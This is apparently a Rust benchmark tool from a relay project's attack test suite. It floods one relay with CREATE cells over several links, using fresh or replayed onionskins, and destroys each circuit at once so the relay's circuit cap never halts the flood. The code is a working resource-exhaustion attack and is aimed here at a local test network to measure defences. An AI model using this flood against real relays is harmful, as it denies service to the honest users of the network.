//! CREATE flood against one relay, for `bench/attack/run.py`: open `--links` real links (Noise
//! handshake, as a client: no static key) from `--source`, then send CREATE cells on each as fast
//! as the link takes them, for `--secs` seconds. `--mode fresh` makes a new onionskin for every
//! cell (the attacker pays one key generation per CREATE); `--mode replay` sends one onionskin
//! again and again under new circuit ids (costs the attacker nothing). With `--destroy` (the
//! default) each CREATED is answered with DESTROY at once, so the relay's per-link circuit cap
//! never stops the flood and every cell costs the relay a handshake.
//!
//! Like a flood tool on its own machine, it sends only as fast as the relay's socket takes the
//! cells: at most [`MAX_QUEUED`] cells wait in the tool's own send queue per link. (The link's
//! scheduler lets every new circuit id queue a few cells past the link's cap, and a CREATE flood
//! uses a new id per cell, so without this bound the tool queued millions of cells in its own
//! memory at 0.9 of a core, CPU that on this shared machine was taken from the honest clients
//! being measured, not from the relay.)
//!
//! The relay's identity, link key and onion key are public (its descriptor); this tool reads them
//! from the relay's data directory (`--relay-dir`) because a test network is local.
//!
//! Prints one JSON object: cells sent, CREATED and DESTROY received, links opened, refused or
//! closed by the relay, and rates per second.
//!
//!     cargo build --example create_flood
//!     create_flood --target 127.0.0.1:PORT --relay-dir DIR --source 127.0.0.77 --links 4 \
//!         --secs 20 --mode fresh

// A real-time load generator talking to real sockets: a driver (clock and sleeps allowed).
#![allow(clippy::disallowed_methods)]

use std::net::{IpAddr, SocketAddr};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use allium_crypto::handshake::client_start;
use allium_proto::cell::{Cell, CellCmd, CircId, Create, DestroyReason, HTYPE_NTOR3};
use allium_proto::channel;
use allium_proto::flowctl;
use clap::{Parser, ValueEnum};

/// Where onionskins come from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
enum Mode {
    /// A new onionskin for every CREATE.
    Fresh,
    /// The same onionskin for every CREATE (a replay).
    Replay,
}

/// CREATE flood against one relay.
#[derive(Parser, Debug)]
struct Args {
    /// The relay's OR address.
    #[arg(long)]
    target: SocketAddr,
    /// The relay's data directory (its public keys are read from there).
    #[arg(long)]
    relay_dir: PathBuf,
    /// Source address of every link (the attacker's address).
    #[arg(long, default_value = "127.0.0.77")]
    source: IpAddr,
    /// Concurrent links.
    #[arg(long, default_value_t = 4)]
    links: usize,
    /// Duration of the flood, seconds.
    #[arg(long, default_value_t = 20.0)]
    secs: f64,
    /// Fresh or replayed onionskins.
    #[arg(long, value_enum, default_value_t = Mode::Fresh)]
    mode: Mode,
    /// Leave circuits open instead of destroying each as soon as it is created.
    #[arg(long)]
    keep: bool,
}

/// Everything counted, shared by the link tasks.
/// Cells allowed to wait in the tool's own send queue per link before it waits for the socket.
const MAX_QUEUED: u64 = 256;

#[derive(Default)]
struct Counts {
    sent: AtomicU64,
    /// Cells the sockets took (written in frames), DESTROYs included.
    written: AtomicU64,
    created: AtomicU64,
    destroyed: AtomicU64,
    other: AtomicU64,
    links_opened: AtomicU64,
    links_failed: AtomicU64,
    links_closed: AtomicU64,
}

/// The relay's public keys.
struct Peer {
    addr: SocketAddr,
    id: allium_crypto::RelayId,
    link: allium_crypto::X25519Public,
    onion: allium_crypto::X25519Public,
}

fn onionskin(peer: &Peer) -> Result<Vec<u8>, String> {
    client_start(&peer.id, &peer.onion, &flowctl::cc_request())
        .map(|(_hs, skin)| skin)
        .map_err(|e| format!("making an onionskin: {e}"))
}

async fn open_link(peer: &Peer, source: IpAddr) -> Result<channel::Channel, String> {
    let sock = match source {
        IpAddr::V4(_) => tokio::net::TcpSocket::new_v4(),
        IpAddr::V6(_) => tokio::net::TcpSocket::new_v6(),
    }
    .map_err(|e| e.to_string())?;
    sock.bind(SocketAddr::new(source, 0))
        .map_err(|e| format!("binding {source}: {e}"))?;
    let tcp = tokio::time::timeout(channel::CONNECT_TIMEOUT, sock.connect(peer.addr))
        .await
        .map_err(|_| "connect timed out".to_owned())?
        .map_err(|e| format!("connect: {e}"))?;
    channel::connect_over(tcp, &peer.id, &peer.link, None)
        .await
        .map_err(|e| format!("link handshake: {e}"))
}

/// One link, reopened whenever the relay closes or refuses it, until `deadline`.
async fn flood_link(
    peer: Arc<Peer>,
    args: Arc<Args>,
    replayed: Arc<Vec<u8>>,
    counts: Arc<Counts>,
    deadline: Instant,
) {
    while Instant::now() < deadline {
        let Ok(ch) = open_link(&peer, args.source).await else {
            counts.links_failed.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        counts.links_opened.fetch_add(1, Ordering::Relaxed);
        let written = Arc::new(channel::LinkBytes::default());
        ch.count_into(&written);
        let (tx, mut rx) = ch.split();
        let reader = {
            let tx = tx.clone();
            let counts = counts.clone();
            let destroy = !args.keep;
            tokio::spawn(async move {
                while let Some(cell) = rx.recv().await {
                    match cell.cmd {
                        CellCmd::CREATED => {
                            counts.created.fetch_add(1, Ordering::Relaxed);
                            if let (true, Some(id)) = (destroy, cell.circ_id) {
                                let _ = tx.try_send(Cell::destroy(id, DestroyReason::REQUESTED));
                            }
                        }
                        CellCmd::DESTROY => {
                            counts.destroyed.fetch_add(1, Ordering::Relaxed);
                        }
                        _ => {
                            counts.other.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                }
            })
        };
        let left = deadline.saturating_duration_since(Instant::now());
        let writer = async {
            let mut queued_here: u64 = 0;
            loop {
                // Wait for the socket (the relay reading) rather than queue without bound.
                while queued_here.saturating_sub(written.cells_written()) > MAX_QUEUED {
                    if tx.is_closed() {
                        return;
                    }
                    tokio::time::sleep(Duration::from_millis(1)).await;
                }
                let hdata = match args.mode {
                    Mode::Replay => replayed.as_ref().clone(),
                    Mode::Fresh => match onionskin(&peer) {
                        Ok(s) => s,
                        Err(_) => break,
                    },
                };
                let create = Create {
                    htype: HTYPE_NTOR3,
                    hdata,
                };
                let Ok(cell) = Cell::create(CircId::random(true), &create) else {
                    break;
                };
                if tx.send(cell).await.is_err() {
                    break;
                }
                queued_here += 1;
                counts.sent.fetch_add(1, Ordering::Relaxed);
                // A send into a queue with room never waits: give the link's writer and reader
                // (and the timer) their turn.
                tokio::task::yield_now().await;
            }
        };
        let closed_by_relay = tokio::time::timeout(left, writer).await.is_ok();
        tx.close();
        reader.abort();
        counts
            .written
            .fetch_add(written.cells_written(), Ordering::Relaxed);
        if closed_by_relay {
            counts.links_closed.fetch_add(1, Ordering::Relaxed);
        }
    }
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> Result<(), String> {
    let args = Arc::new(Args::parse());
    let keys = allium_relay::keys::RelayKeys::load_or_create(&args.relay_dir).map_err(|e| {
        format!(
            "reading the relay's keys in {}: {e}",
            args.relay_dir.display()
        )
    })?;
    let peer = Arc::new(Peer {
        addr: args.target,
        id: keys.id,
        link: keys.link.public(),
        onion: keys.onion_public(),
    });
    drop(keys);
    let replayed = Arc::new(onionskin(&peer)?);
    let counts = Arc::new(Counts::default());
    let started = Instant::now();
    let deadline = started + Duration::from_secs_f64(args.secs.max(0.1));
    let tasks: Vec<_> = (0..args.links.max(1))
        .map(|_| {
            tokio::spawn(flood_link(
                peer.clone(),
                args.clone(),
                replayed.clone(),
                counts.clone(),
                deadline,
            ))
        })
        .collect();
    for t in tasks {
        let _ = t.await;
    }
    let secs = started.elapsed().as_secs_f64();
    let get = |a: &AtomicU64| a.load(Ordering::Relaxed);
    let rate = |n: u64| (n as f64 / secs * 10.0).round() / 10.0;
    let out = serde_json::json!({
        "mode": format!("{:?}", args.mode).to_lowercase(),
        "links": args.links,
        "secs": (secs * 100.0).round() / 100.0,
        "creates_sent": get(&counts.sent),
        "cells_written": get(&counts.written),
        "created": get(&counts.created),
        "destroy_received": get(&counts.destroyed),
        "other_cells": get(&counts.other),
        "links_opened": get(&counts.links_opened),
        "links_failed": get(&counts.links_failed),
        "links_closed_by_relay": get(&counts.links_closed),
        "creates_per_sec": rate(get(&counts.sent)),
        "created_per_sec": rate(get(&counts.created)),
    });
    println!("{out}");
    Ok(())
}
